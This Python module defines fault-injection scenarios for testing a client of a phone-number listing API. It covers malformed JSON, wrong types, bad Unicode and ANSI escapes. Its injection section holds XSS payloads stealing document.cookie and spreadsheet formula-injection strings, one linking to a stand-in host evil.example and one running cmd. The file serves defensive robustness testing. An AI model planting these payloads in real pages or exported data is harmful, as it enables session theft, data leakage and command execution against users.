"""Hostile content in a 200: not JSON, wrong types, missing fields, bad Unicode, injection payloads."""

from __future__ import annotations

from typing import Any, ClassVar

from .base import Context, Expect, Hostile, ListRewrite, Reply, Request, register


class _Body(Hostile):
    """Replaces every list answer's body (and content type) with ``body``."""

    content_type = "application/json"
    body: bytes = b""

    def response(self, request: Request, reply: Reply, ctx: Context) -> Reply:
        if not request.is_list:
            return reply
        return Reply(200, (("content-type", self.content_type),), self.body)


# ------------------------------------------------------------------ not JSON


@register
class Html200(_Body):
    name = "html_200"
    family = "not JSON"
    description = "200 with an HTML maintenance page instead of JSON"
    audit_expects: ClassVar[Expect] = "incomplete"
    content_type = "text/html; charset=utf-8"
    body = b"<!DOCTYPE html><html><body><h1>Down for maintenance</h1></body></html>"


@register
class InvalidJson200(_Body):
    name = "invalid_json_200"
    family = "not JSON"
    description = "200 with JSON cut off mid-object (application/json)"
    audit_expects = "incomplete"
    body = b'{"api_id": "x", "meta": {"limit": 20, "offset": 0, "total_count": 60, "objects": [{"numb'


@register
class JsonArray200(_Body):
    name = "json_array_200"
    family = "not JSON"
    description = "200 with a JSON array where the list object belongs"
    audit_expects = "incomplete"
    body = b'[{"number": "14155550100"}]'


@register
class DeeplyNestedJson(_Body):
    name = "deeply_nested_json"
    family = "not JSON"
    description = "200 with JSON nested 100,000 levels deep (a recursive parser overflows its stack)"
    audit_expects = "incomplete"
    body = b'{"api_id": "x", "meta": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


@register
class Html200FirstTry(Html200):
    name = "html_200_first_try"
    family = "not JSON"
    description = "each list request's first try gets an HTML page with 200; the retry gets the JSON"
    audit_expects = "exact"

    def response(self, request: Request, reply: Reply, ctx: Context) -> Reply:
        return super().response(request, reply, ctx) if request.attempt == 1 else reply


# ------------------------------------------------------------------ wrong types


class _Field(ListRewrite):
    """Sets ``field`` to ``value(obj)`` on every object (of every ``every``-th object)."""

    field: str
    every = 1

    def value(self, obj: dict[str, Any], ctx: Context) -> Any:
        raise NotImplementedError

    def obj(self, obj: dict[str, Any], index: int, ctx: Context) -> Any:
        if index % self.every:
            return obj
        return {**obj, self.field: self.value(obj, ctx)}


@register
class RegionInt(_Field):
    name = "region_int"
    family = "wrong types"
    description = "region is an integer (12345) on every third number"
    audit_expects = "incomplete"
    field = "region"
    every = 3

    def value(self, obj: dict[str, Any], ctx: Context) -> Any:
        return 12345


@register
class SubAccountList(_Field):
    name = "sub_account_list"
    family = "wrong types"
    description = "sub_account is a list of auth ids on every third number"
    audit_expects = "incomplete"
    field = "sub_account"
    every = 3

    def value(self, obj: dict[str, Any], ctx: Context) -> Any:
        return ["SA" + "X" * 18, obj.get("sub_account")]


@register
class BooleansAsStrings(_Field):
    name = "booleans_as_strings"
    family = "wrong types"
    description = 'sms_enabled is the string "true"/"false" on every number'
    audit_expects = "incomplete"
    field = "sms_enabled"

    def value(self, obj: dict[str, Any], ctx: Context) -> Any:
        return "true" if obj.get("sms_enabled") else "false"


@register
class StatusAsObject(_Field):
    name = "status_as_object"
    family = "wrong types"
    description = 'tendlc_registration_status is an object {"value": ...} on every number'
    audit_expects = "incomplete"
    field = "tendlc_registration_status"

    def value(self, obj: dict[str, Any], ctx: Context) -> Any:
        return {"value": obj.get("tendlc_registration_status")}


@register
class NumberAsInteger(_Field):
    name = "number_int"
    family = "wrong types"
    description = "number is a JSON integer, not a string, on every third object"
    audit_expects = "incomplete"
    field = "number"
    every = 3

    def value(self, obj: dict[str, Any], ctx: Context) -> Any:
        return int(obj["number"])


@register
class ObjectsNotList(ListRewrite):
    name = "objects_not_list"
    family = "wrong types"
    description = "objects is an object keyed by number instead of a list"
    audit_expects = "incomplete"

    def page(self, body: dict[str, Any], request: Request, ctx: Context) -> Any:
        return {**body, "objects": {o["number"]: o for o in body.get("objects", [])}}


@register
class MetaNotObject(ListRewrite):
    name = "meta_not_object"
    family = "wrong types"
    description = "meta is a list [limit, offset, total_count]"
    audit_expects = "incomplete"

    def page(self, body: dict[str, Any], request: Request, ctx: Context) -> Any:
        meta = body["meta"]
        return {**body, "meta": [meta["limit"], meta["offset"], meta["total_count"]]}


# ------------------------------------------------------------------ missing fields


@register
class OnlyNumber(ListRewrite):
    name = "only_number"
    family = "missing fields"
    description = "every object carries only its number"
    audit_expects = "incomplete"

    def obj(self, obj: dict[str, Any], index: int, ctx: Context) -> Any:
        return {"number": obj["number"]}


@register
class MissingNumberType(ListRewrite):
    name = "missing_number_type"
    family = "missing fields"
    description = "number_type is absent from every object (no rule can tell local from toll-free)"
    audit_expects = "incomplete"

    def obj(self, obj: dict[str, Any], index: int, ctx: Context) -> Any:
        return {k: v for k, v in obj.items() if k != "number_type"}


@register
class MissingRegionSome(ListRewrite):
    name = "missing_region_some"
    family = "missing fields"
    description = "region is absent from every fourth object"
    audit_expects = "incomplete"

    def obj(self, obj: dict[str, Any], index: int, ctx: Context) -> Any:
        return obj if index % 4 else {k: v for k, v in obj.items() if k != "region"}


# ------------------------------------------------------------------ unicode


@register
class LoneSurrogates(ListRewrite):
    name = "lone_surrogates"
    family = "unicode"
    description = r"alias, carrier and a status hold lone surrogates (\ud800, \udfff): valid JSON, not UTF-8"
    audit_expects = "exact"

    def obj(self, obj: dict[str, Any], index: int, ctx: Context) -> Any:
        status = obj.get("tendlc_registration_status")
        return {
            **obj,
            "alias": "line \ud800 one",
            "carrier": "Plivo \udfff",
            "tendlc_registration_status": f"{status}\ud800" if status else status,
        }


@register
class InvalidUtf8(Hostile):
    name = "invalid_utf8"
    family = "unicode"
    description = "raw 0xff 0xfe bytes inside a string of every list answer (not UTF-8, so not JSON)"
    audit_expects = "incomplete"

    def response(self, request: Request, reply: Reply, ctx: Context) -> Reply:
        if not request.is_list or reply.status != 200:
            return reply
        return Reply(
            reply.status, reply.headers, reply.body.replace(b'"carrier":"', b'"carrier":"\xff\xfe', 1)
        )


@register
class ControlCharacters(ListRewrite):
    name = "control_characters"
    family = "unicode"
    description = "statuses and sub_account carry NUL, ANSI escapes and other C0 controls"
    audit_expects = "exact"

    def obj(self, obj: dict[str, Any], index: int, ctx: Context) -> Any:
        status = obj.get("toll_free_sms_verification")
        return {
            **obj,
            "carrier": "Plivo\x00\x07",
            "toll_free_sms_verification": f"\x1b[2J\x1b[31m{status}\x00" if status else status,
            "cnam_lookup": "enabled\x1b]0;pwned\x07",
        }


# ------------------------------------------------------------------ injection

SCRIPT = "<script>alert(document.cookie)</script>"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
)


@register
class ScriptInjection(ListRewrite):
    name = "script_injection"
    family = "injection"
    description = "<script> and </script> in sub_account, number_type and statuses"
    audit_expects = "exact"

    def obj(self, obj: dict[str, Any], index: int, ctx: Context) -> Any:
        if index % 2:
            return obj
        return {
            **obj,
            "sub_account": f'"></td></tr></table>{SCRIPT}',
            "caller_reputation_status": f"</script>{SCRIPT}",
            "cnam_lookup": f"<img src=x onerror=alert(1)>{SCRIPT}",
        }


@register
class FormulaInjection(ListRewrite):
    name = "formula_injection"
    family = "injection"
    description = (
        "spreadsheet formulas (=HYPERLINK, +cmd, -2+3, @SUM) in sub_account, number_type and statuses"
    )
    audit_expects = "exact"

    def obj(self, obj: dict[str, Any], index: int, ctx: Context) -> Any:
        formula = FORMULAS[index % len(FORMULAS)]
        changed = {**obj, "sub_account": formula, "cnam_lookup": formula}
        if index % 5 == 0:
            changed["number_type"] = formula
        return changed
